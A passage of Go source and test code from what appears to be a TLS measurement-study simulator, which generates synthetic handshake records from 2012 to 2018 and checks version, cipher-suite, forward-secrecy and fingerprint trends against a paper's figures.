		t.Errorf("Lucky13 CBC delta = %+0.1f, paper saw no immediate decline", im.Delta12())
	}
	// Sweet32: 3DES advertisement declines within a year.
	if im, ok := byEvent[timeline.EventSweet32]; !ok || im.Delta12() > -2 {
		t.Errorf("Sweet32 3DES delta = %+0.1f, want decline", im.Delta12())
	}
	// First RC4 attack: negotiation does respond within a year (server-side
	// moves first), but advertisement lingers (checked via RC4NoMore row).
	if im, ok := byEvent[timeline.EventRC4]; !ok || im.After12 >= im.Before+5 {
		t.Errorf("RC4 negotiated should not rise post-attack: %+v", im)
	}
	var buf bytes.Buffer
	if err := RenderImpacts(&buf, impacts); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "Snowden") {
		t.Error("impact rendering incomplete")
	}
}

func TestTLS13VariantSharesAnalysis(t *testing.T) {
	shares := TLS13VariantShares(sharedAgg(t))
	if len(shares) == 0 {
		t.Fatal("no variant shares")
	}
	sum := 0.0
	for i, v := range shares {
		sum += v.Share
		if i > 0 && shares[i-1].Share < v.Share {
			t.Error("variant shares not descending")
		}
	}
	if sum < 99.9 || sum > 100.1 {
		t.Errorf("variant shares sum to %0.1f", sum)
	}
}
