package simulate

import (
	"reflect"
	"strings"
	"testing"
	"time"

	"tlsage/internal/clientdb"
	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// RunAggregate must produce an identical aggregate for every worker count:
// each month has its own seed-derived RNG stream, so sharding the window
// cannot change the dataset.
func TestParallelRunAggregateIdentical(t *testing.T) {
	opts := DefaultOptions(60)
	opts.End = timeline.M(2015, time.June) // 41 months, keeps the test quick
	opts.Workers = 1
	want, err := New(opts).RunAggregate()
	if err != nil {
		t.Fatal(err)
	}
	if want.TotalRecords() != 41*60 {
		t.Fatalf("unexpected record count %d", want.TotalRecords())
	}
	for _, workers := range []int{0, 2, 3, 8, 64} {
		opts.Workers = workers
		got, err := New(opts).RunAggregate()
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(want, got) {
			t.Errorf("Workers=%d aggregate differs from Workers=1", workers)
		}
	}
}

// Run with Workers > 1 must deliver the identical record stream in the
// identical chronological order as the sequential path.
func TestParallelRunStreamOrder(t *testing.T) {
	opts := DefaultOptions(40)
	opts.End = timeline.M(2013, time.June)
	collect := func(workers int) []string {
		opts.Workers = workers
		var lines []string
		if err := New(opts).RunFunc(func(r *notary.Record) {
			lines = append(lines, string(r.AppendTSV(nil)))
		}); err != nil {
			t.Fatal(err)
		}
		return lines
	}
	want := collect(1)
	got := collect(6)
	if len(want) != len(got) {
		t.Fatalf("record counts differ: %d vs %d", len(want), len(got))
	}
	for i := range want {
		if want[i] != got[i] {
			t.Fatalf("record %d differs between Workers=1 and Workers=6:\n%s\n%s", i, want[i], got[i])
		}
	}
	// Chronological-month order must hold.
	last := ""
	for i, line := range got {
		month := line[:7]
		if month < last {
			t.Fatalf("record %d out of order: month %s after %s", i, month, last)
		}
		last = month
	}
}

// An error in one shard must abort the run and be reported.
func TestParallelRunAggregatePropagatesSinkCoverage(t *testing.T) {
	opts := DefaultOptions(30)
	opts.End = timeline.M(2012, time.December)
	opts.Workers = 4
	agg, err := New(opts).RunAggregate()
	if err != nil {
		t.Fatal(err)
	}
	months := agg.Months()
	if len(months) != 11 {
		t.Fatalf("got %d months, want 11", len(months))
	}
	for _, m := range months {
		if agg.Stats(m).Total != 30 {
			t.Errorf("month %v has %d records, want 30", m, agg.Stats(m).Total)
		}
	}
}

// fallbackVersions: the SSL3-floor walk (a POODLE-era browser falls through
// TLS 1.2 → 1.1 → 1.0 → SSL3) and the RC4-fallback-only walk (TLS versions
// only, no SSL3 step).
func TestFallbackVersionsWalks(t *testing.T) {
	cases := []struct {
		name string
		cfg  clientdb.Config
		want []registry.Version
	}{
		{
			name: "ssl3 floor from TLS 1.2",
			cfg: clientdb.Config{
				LegacyVersion: registry.VersionTLS12,
				MinVersion:    registry.VersionSSL3,
				SSL3Fallback:  true,
			},
			want: []registry.Version{
				registry.VersionTLS12, registry.VersionTLS11,
				registry.VersionTLS10, registry.VersionSSL3,
			},
		},
		{
			name: "ssl3 fallback blocked by min version",
			cfg: clientdb.Config{
				LegacyVersion: registry.VersionTLS12,
				MinVersion:    registry.VersionTLS10,
				SSL3Fallback:  true,
			},
			want: []registry.Version{
				registry.VersionTLS12, registry.VersionTLS11, registry.VersionTLS10,
			},
		},
		{
			name: "rc4 fallback only walks TLS versions",
			cfg: clientdb.Config{
				LegacyVersion:   registry.VersionTLS12,
				MinVersion:      registry.VersionTLS10,
				RC4FallbackOnly: true,
			},
			want: []registry.Version{
				registry.VersionTLS12, registry.VersionTLS11, registry.VersionTLS10,
			},
		},
		{
			name: "legacy version above TLS 1.2 is clamped",
			cfg: clientdb.Config{
				LegacyVersion: registry.VersionTLS13,
				MinVersion:    registry.VersionTLS10,
				SSL3Fallback:  true,
			},
			want: []registry.Version{
				registry.VersionTLS12, registry.VersionTLS11, registry.VersionTLS10,
			},
		},
		{
			name: "ssl3-only client has nothing to walk",
			cfg: clientdb.Config{
				LegacyVersion: registry.VersionSSL3,
				MinVersion:    registry.VersionSSL3,
			},
			want: nil,
		},
	}
	for _, tc := range cases {
		got := fallbackVersions(&tc.cfg)
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%s: got %v, want %v", tc.name, got, tc.want)
		}
		if tc.want != nil && cap(got) != len(tc.want) {
			t.Errorf("%s: capacity %d, want exactly %d (pre-sized)", tc.name, cap(got), len(tc.want))
		}
	}
}

// The walk the simulator performs with an SSL3-floor config must actually
// end at SSL3 and set the fallback SCSV on retries when the client sends it.
func TestFallbackVersionsUsedInDance(t *testing.T) {
	opts := DefaultOptions(600)
	opts.Start = timeline.M(2014, time.March)
	opts.End = timeline.M(2014, time.March)
	sawFallback := false
	err := New(opts).RunFunc(func(r *notary.Record) {
		if r.UsedFallback {
			sawFallback = true
			if !strings.HasPrefix(r.Date.String(), "2014-03") {
				t.Errorf("fallback record outside the simulated month: %s", r.Date)
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if !sawFallback {
		t.Error("no fallback dance observed in March 2014")
	}
}
