package simulate

import (
	"math"
	"sync"
	"testing"
	"time"

	"tlsage/internal/fingerprint"
	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// The shared study-scale aggregate used by the shape tests. Built once;
// ~110k simulated connections.
var (
	aggOnce sync.Once
	agg     *notary.Aggregate
	aggErr  error
)

func studyAgg(t *testing.T) *notary.Aggregate {
	t.Helper()
	aggOnce.Do(func() {
		sim := New(DefaultOptions(1500))
		agg, aggErr = sim.RunAggregate()
	})
	if aggErr != nil {
		t.Fatal(aggErr)
	}
	return agg
}

func pct(t *testing.T, a *notary.Aggregate, y int, m time.Month, f func(*notary.MonthStats) float64) float64 {
	t.Helper()
	ms := a.Stats(timeline.M(y, m))
	if ms == nil {
		t.Fatalf("no stats for %d-%d", y, m)
	}
	return f(ms)
}

func TestDeterminism(t *testing.T) {
	opts := DefaultOptions(50)
	opts.End = timeline.M(2012, time.June)
	var lines1, lines2 []string
	run := func(out *[]string) {
		sim := New(opts)
		err := sim.RunFunc(func(r *notary.Record) { *out = append(*out, string(r.AppendTSV(nil))) })
		if err != nil {
			t.Fatal(err)
		}
	}
	run(&lines1)
	run(&lines2)
	if len(lines1) != len(lines2) {
		t.Fatal("different record counts")
	}
	for i := range lines1 {
		if lines1[i] != lines2[i] {
			t.Fatalf("record %d differs between runs with equal seed", i)
		}
	}
}

func TestRecordCountAndWindow(t *testing.T) {
	a := studyAgg(t)
	months := a.Months()
	if len(months) != 75 {
		t.Fatalf("observed %d months, want 75", len(months))
	}
	if months[0] != timeline.StudyStart || months[len(months)-1] != timeline.StudyEnd {
		t.Error("window endpoints wrong")
	}
	if a.TotalRecords() != 75*1500 {
		t.Errorf("total records = %d", a.TotalRecords())
	}
}

// Figure 1: negotiated versions. TLS 1.0 ≈ dominant in early 2012 falling to
// a few percent by Feb 2018; TLS 1.2 ≈ 90% by 2018.
func TestFigure1VersionShape(t *testing.T) {
	a := studyAgg(t)
	v := func(y int, m time.Month, ver registry.Version) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 {
			return ms.PctEstablished(ms.ByVersion[ver])
		})
	}
	if got := v(2012, time.March, registry.VersionTLS10); got < 80 {
		t.Errorf("TLS1.0 in Mar 2012 = %0.1f%%, want ≳90%%", got)
	}
	if got := v(2018, time.February, registry.VersionTLS10); got > 6.5 {
		t.Errorf("TLS1.0 in Feb 2018 = %0.1f%%, want ≈2.8%%", got)
	}
	if got := v(2018, time.February, registry.VersionTLS12); got < 80 {
		t.Errorf("TLS1.2 in Feb 2018 = %0.1f%%, want ≈90%%", got)
	}
	// TLS 1.2 overtakes TLS 1.0 around the turn of 2014/2015 (paper:
	// takeoff late 2013, majority during 2015).
	late2014v12 := v(2014, time.December, registry.VersionTLS12)
	late2014v10 := v(2014, time.December, registry.VersionTLS10)
	if late2014v12 <= late2014v10 {
		t.Errorf("TLS1.2 (%0.1f%%) should lead TLS1.0 (%0.1f%%) by Dec 2014", late2014v12, late2014v10)
	}
	// SSL3 negligible after mid-2014 (§5.1).
	if got := v(2018, time.February, registry.VersionSSL3); got > 0.5 {
		t.Errorf("SSL3 in Feb 2018 = %0.2f%%, want <0.01%%-ish", got)
	}
}

// Figure 2: negotiated RC4/CBC/AEAD classes.
func TestFigure2ClassShape(t *testing.T) {
	a := studyAgg(t)
	cls := func(y int, m time.Month, class string) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 {
			return ms.PctEstablished(ms.ByClass[class])
		})
	}
	// RC4 peaks around 50-65% in Aug 2013, near zero by Mar 2018.
	if got := cls(2013, time.August, "RC4"); got < 45 || got > 70 {
		t.Errorf("RC4 negotiated Aug 2013 = %0.1f%%, want ≈60%%", got)
	}
	if got := cls(2018, time.March, "RC4"); got > 2 {
		t.Errorf("RC4 negotiated Mar 2018 = %0.1f%%, want ≈0", got)
	}
	// AEAD ≈ 85%+ by 2018, CBC ≈ 10%.
	if got := cls(2018, time.March, "AEAD"); got < 75 {
		t.Errorf("AEAD negotiated Mar 2018 = %0.1f%%, want ≈90%%", got)
	}
	if got := cls(2018, time.March, "CBC"); got < 4 || got > 22 {
		t.Errorf("CBC negotiated Mar 2018 = %0.1f%%, want ≈10%%", got)
	}
	// CBC remains popular until 2015 (paper: decline starts Aug 2015).
	if got := cls(2015, time.March, "CBC"); got < 25 {
		t.Errorf("CBC negotiated Mar 2015 = %0.1f%%, want ≳30%%", got)
	}
}

// Figure 3: client advertisement of RC4/DES/3DES/AEAD.
func TestFigure3AdvertisedShape(t *testing.T) {
	a := studyAgg(t)
	get := func(y int, m time.Month, f func(*notary.MonthStats) int) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 { return ms.Pct(f(ms)) })
	}
	// Nearly all clients advertised RC4 and 3DES in 2012-2014.
	if got := get(2013, time.June, func(ms *notary.MonthStats) int { return ms.AdvRC4 }); got < 85 {
		t.Errorf("RC4 advertised Jun 2013 = %0.1f%%", got)
	}
	if got := get(2014, time.June, func(ms *notary.MonthStats) int { return ms.Adv3DES }); got < 90 {
		t.Errorf("3DES advertised Jun 2014 = %0.1f%%", got)
	}
	// 3DES advertisement falls to ≈69% by 2018 (§5.6).
	got3des := get(2018, time.March, func(ms *notary.MonthStats) int { return ms.Adv3DES })
	if got3des < 55 || got3des > 82 {
		t.Errorf("3DES advertised Mar 2018 = %0.1f%%, want ≈69%%", got3des)
	}
	// RC4 advertisement collapses after the 2015 browser removals but keeps
	// a residual tail (Figure 6): ≈10% in 2018.
	gotRC4 := get(2018, time.March, func(ms *notary.MonthStats) int { return ms.AdvRC4 })
	if gotRC4 < 2 || gotRC4 > 25 {
		t.Errorf("RC4 advertised Mar 2018 = %0.1f%%, want ≈10%%", gotRC4)
	}
	// The drop between Jan 2015 and Jan 2017 is the cliff.
	pre := get(2015, time.January, func(ms *notary.MonthStats) int { return ms.AdvRC4 })
	post := get(2017, time.January, func(ms *notary.MonthStats) int { return ms.AdvRC4 })
	if pre-post < 30 {
		t.Errorf("RC4 advertisement cliff too small: %0.1f%% → %0.1f%%", pre, post)
	}
	// DES advertised: substantial in 2012, minor by 2018.
	desEarly := get(2012, time.June, func(ms *notary.MonthStats) int { return ms.AdvDES })
	desLate := get(2018, time.March, func(ms *notary.MonthStats) int { return ms.AdvDES })
	if desEarly < 20 {
		t.Errorf("DES advertised Jun 2012 = %0.1f%%, want ≳30%%", desEarly)
	}
	if desLate > desEarly/2 {
		t.Errorf("DES advertisement should collapse: %0.1f%% → %0.1f%%", desEarly, desLate)
	}
	// AEAD advertisement near-universal by 2018.
	if got := get(2018, time.March, func(ms *notary.MonthStats) int { return ms.AdvAEAD }); got < 80 {
		t.Errorf("AEAD advertised Mar 2018 = %0.1f%%", got)
	}
}

// Figure 7: Export / Anonymous / NULL advertisement, with the §5.5 decline
// and the §6.2 mid-2015 anonymous spike.
func TestFigure7WeakAdvertisement(t *testing.T) {
	a := studyAgg(t)
	get := func(y int, m time.Month, f func(*notary.MonthStats) int) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 { return ms.Pct(f(ms)) })
	}
	exp12 := get(2012, time.June, func(ms *notary.MonthStats) int { return ms.AdvExport })
	exp18 := get(2018, time.March, func(ms *notary.MonthStats) int { return ms.AdvExport })
	if exp12 < 18 || exp12 > 38 {
		t.Errorf("export advertised 2012 = %0.1f%%, want ≈28%%", exp12)
	}
	if exp18 > 6 {
		t.Errorf("export advertised 2018 = %0.1f%%, want ≈1%%", exp18)
	}
	// Anonymous spike: July 2015 roughly doubles May 2015.
	may := get(2015, time.May, func(ms *notary.MonthStats) int { return ms.AdvAnon })
	jul := get(2015, time.July, func(ms *notary.MonthStats) int { return ms.AdvAnon })
	oct := get(2015, time.November, func(ms *notary.MonthStats) int { return ms.AdvAnon })
	if jul < may*1.5 {
		t.Errorf("anonymous spike missing: May %0.1f%% → Jul %0.1f%%", may, jul)
	}
	if oct > jul*0.75 {
		t.Errorf("anonymous spike should recede: Jul %0.1f%% → Nov %0.1f%%", jul, oct)
	}
}

// §6.1: NULL ciphers are advertised by a few percent but established
// connections are dominated by GRID traffic, a couple percent of the early
// dataset declining to ≈0.4% in 2018.
func TestNULLNegotiation(t *testing.T) {
	a := studyAgg(t)
	nullPct := func(y int, m time.Month) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 {
			return ms.PctEstablished(ms.NULLNegotiated)
		})
	}
	if got := nullPct(2012, time.June); got < 1 || got > 9 {
		t.Errorf("NULL negotiated 2012 = %0.2f%%, want a few percent", got)
	}
	if got := nullPct(2018, time.March); got > 1.5 {
		t.Errorf("NULL negotiated 2018 = %0.2f%%, want ≈0.4%%", got)
	}
}

// Figure 8: forward secrecy. RSA dominates 2012; ECDHE ≳80% by 2018; the FS
// share rises sharply after Snowden (Jun 2013).
func TestFigure8ForwardSecrecy(t *testing.T) {
	a := studyAgg(t)
	kex := func(y int, m time.Month, k registry.KeyExchange) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 {
			return ms.PctEstablished(ms.ByKex[k])
		})
	}
	fs := func(y int, m time.Month) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 {
			n := 0
			for k, c := range ms.ByKex {
				if k.ForwardSecret() {
					n += c
				}
			}
			return ms.PctEstablished(n)
		})
	}
	if got := kex(2012, time.June, registry.KexRSA); got < 40 {
		t.Errorf("RSA kex Jun 2012 = %0.1f%%, want ≳50%%", got)
	}
	if got := kex(2018, time.March, registry.KexECDHE) + kex(2018, time.March, registry.KexTLS13); got < 70 {
		t.Errorf("ECDHE(+1.3) Mar 2018 = %0.1f%%, want ≳80%%", got)
	}
	pre := fs(2013, time.April)
	post := fs(2014, time.April)
	if post < pre+12 {
		t.Errorf("FS should jump after Snowden: %0.1f%% → %0.1f%%", pre, post)
	}
	// DHE never found much use: stays below 20% at all times.
	for _, m := range a.Months() {
		ms := a.Stats(m)
		if p := ms.PctEstablished(ms.ByKex[registry.KexDHE]); p > 20 {
			t.Errorf("DHE at %v = %0.1f%%, should stay minor", m, p)
		}
	}
}

// Figure 9/10: AEAD breakdown — AES-128-GCM dominates, ChaCha20 ≈1.7% of
// connections in Mar 2018, CCM negligible.
func TestFigure9AEADBreakdown(t *testing.T) {
	a := studyAgg(t)
	ms := a.Stats(timeline.M(2018, time.March))
	gcm128, gcm256, chacha := 0, 0, 0
	for id, n := range ms.BySuite {
		s, ok := registry.SuiteByID(id)
		if !ok {
			continue
		}
		switch {
		case s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES128:
			gcm128 += n
		case s.Mode == registry.ModeGCM && s.Cipher == registry.CipherAES256:
			gcm256 += n
		case s.Cipher == registry.CipherChaCha20:
			chacha += n
		}
	}
	if gcm128 <= gcm256 {
		t.Errorf("AES-128-GCM (%d) should dominate AES-256-GCM (%d)", gcm128, gcm256)
	}
	chachaPct := ms.PctEstablished(chacha)
	if chachaPct < 0.3 || chachaPct > 8 {
		t.Errorf("ChaCha20 negotiated Mar 2018 = %0.1f%%, want ≈1.7%%", chachaPct)
	}
	// Advertised AEAD: GCM-128 advertised more than CCM.
	if ms.AdvCCM > ms.AdvAESGCM128/4 {
		t.Errorf("CCM advertised (%d) should be rare vs GCM (%d)", ms.AdvCCM, ms.AdvAESGCM128)
	}
}

// §6.4: TLS 1.3 — client support jumps Feb→Apr 2018 (0.5%→9.8%→23.6%);
// negotiated stays ≈1.3%; 0x7e02 dominates the advertised variants.
func TestTLS13Uptake(t *testing.T) {
	a := studyAgg(t)
	sup := func(y int, m time.Month) float64 {
		return pct(t, a, y, m, func(ms *notary.MonthStats) float64 { return ms.Pct(ms.AdvTLS13) })
	}
	feb, mar, apr := sup(2018, time.February), sup(2018, time.March), sup(2018, time.April)
	if feb > 6 {
		t.Errorf("TLS1.3 client support Feb 2018 = %0.1f%%, want small", feb)
	}
	if !(mar > feb && apr > mar) {
		t.Errorf("TLS1.3 support should rise: %0.1f → %0.1f → %0.1f", feb, mar, apr)
	}
	if apr < 10 || apr > 40 {
		t.Errorf("TLS1.3 client support Apr 2018 = %0.1f%%, want ≈23.6%%", apr)
	}
	neg := pct(t, a, 2018, time.April, func(ms *notary.MonthStats) float64 {
		return ms.PctEstablished(ms.ByVersion[registry.VersionTLS13])
	})
	if neg > 6 {
		t.Errorf("TLS1.3 negotiated Apr 2018 = %0.1f%%, want ≈1.3%%", neg)
	}
	// Variant split: the Google experimental variant dominates.
	ms := a.Stats(timeline.M(2018, time.April))
	if ms.TLS13Variant[registry.VersionTLS13Google] <= ms.TLS13Variant[registry.VersionTLS13Draft18] {
		t.Error("0x7e02 should dominate draft-18 (82.3% in the paper)")
	}
}

// §5.4: heartbeat negotiated ≈3% in 2018.
func TestHeartbeatNegotiated(t *testing.T) {
	a := studyAgg(t)
	got := pct(t, a, 2018, time.March, func(ms *notary.MonthStats) float64 {
		return ms.Pct(ms.HeartbeatAckN)
	})
	if got < 0.5 || got > 8 {
		t.Errorf("heartbeat negotiated Mar 2018 = %0.1f%%, want ≈3%%", got)
	}
}

// Figure 5: relative positions — AEAD and CBC near the top of client lists,
// RC4/3DES lower, with CBC's first position stable over time.
func TestFigure5Positions(t *testing.T) {
	a := studyAgg(t)
	pos := func(y int, m time.Month, class string) float64 {
		ms := a.Stats(timeline.M(y, m))
		if ms.PosCount[class] == 0 {
			return math.NaN()
		}
		return 100 * ms.PosSum[class] / float64(ms.PosCount[class])
	}
	for _, ym := range []struct {
		y int
		m time.Month
	}{{2015, time.June}, {2017, time.June}} {
		aead := pos(ym.y, ym.m, "AEAD")
		cbc := pos(ym.y, ym.m, "CBC")
		tdes := pos(ym.y, ym.m, "3DES")
		if !(aead < cbc && cbc < tdes) {
			t.Errorf("%d-%d: positions AEAD=%0.0f CBC=%0.0f 3DES=%0.0f, want AEAD<CBC<3DES",
				ym.y, ym.m, aead, cbc, tdes)
		}
	}
}

// Figure 4: fingerprint-level capabilities — ≈40% of distinct fingerprints
// still support RC4 and >70% support 3DES in 2018, far above the
// traffic-weighted advertisement numbers.
func TestFigure4FingerprintCapabilities(t *testing.T) {
	a := studyAgg(t)
	ms := a.Stats(timeline.M(2018, time.March))
	if len(ms.FPs) < 20 {
		t.Fatalf("only %d fingerprints in Mar 2018", len(ms.FPs))
	}
	// The unknown-randomizer explodes distinct-fingerprint counts with
	// RC4-bearing lists; exclude per-FP counting distortion by measuring
	// shares over distinct fingerprints as the paper does.
	rc4, tdes, aead := 0, 0, 0
	for _, caps := range ms.FPs {
		if caps.RC4 {
			rc4++
		}
		if caps.TDES {
			tdes++
		}
		if caps.AEAD {
			aead++
		}
	}
	n := len(ms.FPs)
	rc4Pct := 100 * float64(rc4) / float64(n)
	tdesPct := 100 * float64(tdes) / float64(n)
	if rc4Pct < 15 {
		t.Errorf("fingerprints with RC4 in 2018 = %0.0f%%, want ≈40%%", rc4Pct)
	}
	if tdesPct < 50 {
		t.Errorf("fingerprints with 3DES in 2018 = %0.0f%%, want >70%%", tdesPct)
	}
	if aead == 0 {
		t.Error("no AEAD-capable fingerprints")
	}
	// Traffic-weighted RC4 advertisement is far below the fingerprint share
	// (the Figure 4 vs Figure 3 contrast).
	trafficRC4 := ms.Pct(ms.AdvRC4)
	if trafficRC4 >= rc4Pct {
		t.Errorf("traffic RC4 (%0.0f%%) should be below fingerprint RC4 (%0.0f%%)", trafficRC4, rc4Pct)
	}
}

// §4.1: fingerprint lifetimes — the randomizer produces a mass of single-day
// fingerprints while stable software spans years.
func TestFingerprintDurations(t *testing.T) {
	a := studyAgg(t)
	durs := a.FPDurations()
	st := fingerprint.ComputeDurationStats(durs)
	if st.Total < 100 {
		t.Fatalf("only %d fingerprints", st.Total)
	}
	if st.SingleDay < st.Total/4 {
		t.Errorf("single-day fingerprints = %d/%d, want a large share", st.SingleDay, st.Total)
	}
	// Some fingerprints persist for >1200 days and carry real traffic.
	if st.LongLived == 0 {
		t.Error("no long-lived fingerprints")
	}
	if st.SingleDayConns*50 > st.TotalConns {
		t.Errorf("single-day fingerprints carry %d/%d connections, should be a sliver",
			st.SingleDayConns, st.TotalConns)
	}
	if st.MedianDays > st.MeanDays {
		t.Error("median should sit far below mean (heavy single-day mass)")
	}
}

// §5.1: SSLv2 appears in the dataset, exclusively from the Nagios traffic.
func TestSSLv2Trickle(t *testing.T) {
	a := studyAgg(t)
	total := 0
	for _, m := range a.Months() {
		total += a.Stats(m).SSLv2Hellos
	}
	if total == 0 {
		t.Error("no SSLv2 hellos observed")
	}
	frac := float64(total) / float64(a.TotalRecords())
	if frac > 0.005 {
		t.Errorf("SSLv2 fraction = %0.4f, should be a trickle", frac)
	}
}

// §5.5: export suites are essentially never negotiated, yet the Interwise
// servers produce established EXP_RC4_40_MD5 sessions.
func TestExportNegotiationAnomaly(t *testing.T) {
	a := studyAgg(t)
	exp, unoffered := 0, 0
	for _, m := range a.Months() {
		ms := a.Stats(m)
		exp += ms.ExportNegotiated
		unoffered += ms.UnofferedChoice
	}
	if exp == 0 {
		t.Error("expected a few export-negotiated connections (Interwise)")
	}
	total := 0
	for _, m := range a.Months() {
		total += a.Stats(m).Established
	}
	if frac := float64(exp) / float64(total); frac > 0.005 {
		t.Errorf("export negotiated fraction = %0.4f, want tiny", frac)
	}
	if unoffered == 0 {
		t.Error("expected spec-violating unoffered-suite choices (GOST/Interwise)")
	}
}

// §6.3.3: curve shares — secp256r1 dominates across the dataset; x25519
// reaches ≈20%+ of connections by Feb 2018.
func TestCurveShares(t *testing.T) {
	a := studyAgg(t)
	totals := map[registry.CurveID]int{}
	grand := 0
	for _, m := range a.Months() {
		for c, n := range a.Stats(m).ByCurve {
			totals[c] += n
			grand += n
		}
	}
	if grand == 0 {
		t.Fatal("no curves negotiated")
	}
	p256 := 100 * float64(totals[registry.CurveSecp256r1]) / float64(grand)
	if p256 < 60 {
		t.Errorf("secp256r1 share = %0.1f%%, want ≈84%%", p256)
	}
	ms := a.Stats(timeline.M(2018, time.February))
	mGrand := 0
	for _, n := range ms.ByCurve {
		mGrand += n
	}
	x := 100 * float64(ms.ByCurve[registry.CurveX25519]) / float64(mGrand)
	if x < 8 || x > 45 {
		t.Errorf("x25519 share Feb 2018 = %0.1f%%, want ≈22%%", x)
	}
}

// The ablation path (struct-level, no wire round-trip) must agree with the
// wire-level path on aggregate shape.
func TestWireAblationAgreement(t *testing.T) {
	optsA := DefaultOptions(300)
	optsA.End = timeline.M(2013, time.December)
	optsB := optsA
	optsB.WireLevel = false
	aggA, err := New(optsA).RunAggregate()
	if err != nil {
		t.Fatal(err)
	}
	aggB, err := New(optsB).RunAggregate()
	if err != nil {
		t.Fatal(err)
	}
	msA := aggA.Stats(timeline.M(2013, time.June))
	msB := aggB.Stats(timeline.M(2013, time.June))
	if msA.Total != msB.Total {
		t.Fatal("sample sizes differ")
	}
	diff := math.Abs(msA.PctEstablished(msA.ByClass["RC4"]) - msB.PctEstablished(msB.ByClass["RC4"]))
	if diff > 8 {
		t.Errorf("wire vs struct RC4 share differs by %0.1f points", diff)
	}
}

func TestFallbackDanceHappens(t *testing.T) {
	// POODLE-era clients fall back. Count fallback-marked records pre-2015.
	opts := DefaultOptions(800)
	opts.Start = timeline.M(2014, time.January)
	opts.End = timeline.M(2014, time.June)
	n, fallbacks := 0, 0
	err := New(opts).RunFunc(func(r *notary.Record) {
		n++
		if r.UsedFallback {
			fallbacks++
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if fallbacks == 0 {
		t.Error("no fallback retries observed in 2014")
	}
}

func TestFingerprintsAbsentBeforeNotaryUpgrade(t *testing.T) {
	// §4.0.1: the fields needed for fingerprinting reached the Notary in
	// February 2014; earlier records must carry no fingerprint.
	a := studyAgg(t)
	for _, m := range a.Months() {
		ms := a.Stats(m)
		if m.Before(timeline.M(2014, time.February)) {
			if len(ms.FPs) != 0 {
				t.Fatalf("%v: %d fingerprints before the capability existed", m, len(ms.FPs))
			}
		}
	}
	if got := len(a.Stats(timeline.M(2015, time.June)).FPs); got == 0 {
		t.Error("no fingerprints after February 2014")
	}
}

func TestRandomizerProducesDistinctFingerprints(t *testing.T) {
	a := studyAgg(t)
	// The randomizer profile shuffles per connection: in any late month the
	// distinct-fingerprint count must exceed the stable-profile count by a
	// visible margin (stable configs number ≈100).
	ms := a.Stats(timeline.M(2017, time.June))
	if len(ms.FPs) < 60 {
		t.Errorf("only %d distinct fingerprints in Jun 2017", len(ms.FPs))
	}
}

func TestStructLevelSSLv2Path(t *testing.T) {
	opts := DefaultOptions(2000)
	opts.Start = timeline.M(2013, time.March)
	opts.End = timeline.M(2013, time.March)
	opts.WireLevel = false
	sslv2 := 0
	err := New(opts).RunFunc(func(r *notary.Record) {
		if r.SSLv2Hello {
			sslv2++
			if r.ClientVersion != registry.VersionSSL2 {
				t.Errorf("sslv2 record with version %v", r.ClientVersion)
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if sslv2 == 0 {
		t.Skip("no Nagios samples at this size/seed")
	}
}
