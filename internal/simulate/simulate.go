// Package simulate synthesizes the study's passive dataset: month by month
// it draws (client, server) pairs from the population models, runs their
// handshakes through the real wire codec and negotiation engine, and emits
// Notary records. Every figure of the paper is then a query over the
// resulting aggregate.
//
// The simulator is fully deterministic for a given seed and performs the
// version-fallback dance real clients performed (the POODLE precondition):
// on a failed handshake a fallback-capable client retries with progressively
// lower versions, marking retries with TLS_FALLBACK_SCSV when it supports
// RFC 7507.
package simulate

import (
	"fmt"
	"math/rand"
	"time"

	"tlsage/internal/clientdb"
	"tlsage/internal/fingerprint"
	"tlsage/internal/handshake"
	"tlsage/internal/notary"
	"tlsage/internal/population"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

// Options configures a simulation run.
type Options struct {
	// Seed drives all randomness; equal seeds give identical datasets.
	Seed int64
	// ConnectionsPerMonth is the sample size per calendar month.
	ConnectionsPerMonth int
	// Start and End bound the simulated window (inclusive). Zero values
	// default to the study window (Feb 2012 – Apr 2018).
	Start, End timeline.Month
	// WireLevel round-trips every hello through the binary codec, exactly as
	// the Notary would observe it. Disabling it is the struct-only ablation.
	WireLevel bool
	// FingerprintFrom is the month fingerprinting fields become available
	// (the Notary gained them in February 2014, §4.0.1). Records before it
	// carry no fingerprint.
	FingerprintFrom timeline.Month
}

// DefaultOptions returns the study configuration at the given sampling rate.
func DefaultOptions(connsPerMonth int) Options {
	return Options{
		Seed:                1,
		ConnectionsPerMonth: connsPerMonth,
		Start:               timeline.StudyStart,
		End:                 timeline.StudyEnd,
		WireLevel:           true,
		FingerprintFrom:     timeline.M(2014, time.February),
	}
}

// Simulator generates the passive dataset.
type Simulator struct {
	Clients *population.ClientPopulation
	Servers *population.ServerPopulation
	opts    Options
}

// New builds a simulator over the default populations.
func New(opts Options) *Simulator {
	if opts.Start == (timeline.Month{}) {
		opts.Start = timeline.StudyStart
	}
	if opts.End == (timeline.Month{}) {
		opts.End = timeline.StudyEnd
	}
	if opts.FingerprintFrom == (timeline.Month{}) {
		opts.FingerprintFrom = timeline.M(2014, time.February)
	}
	if opts.ConnectionsPerMonth <= 0 {
		opts.ConnectionsPerMonth = 1000
	}
	return &Simulator{
		Clients: population.DefaultClients(),
		Servers: population.DefaultServers(),
		opts:    opts,
	}
}

// Options returns the effective options.
func (s *Simulator) Options() Options { return s.opts }

// Run generates the dataset, invoking sink for every record in
// chronological-month order.
func (s *Simulator) Run(sink func(*notary.Record)) error {
	rnd := rand.New(rand.NewSource(s.opts.Seed))
	for _, m := range timeline.MonthsBetween(s.opts.Start, s.opts.End) {
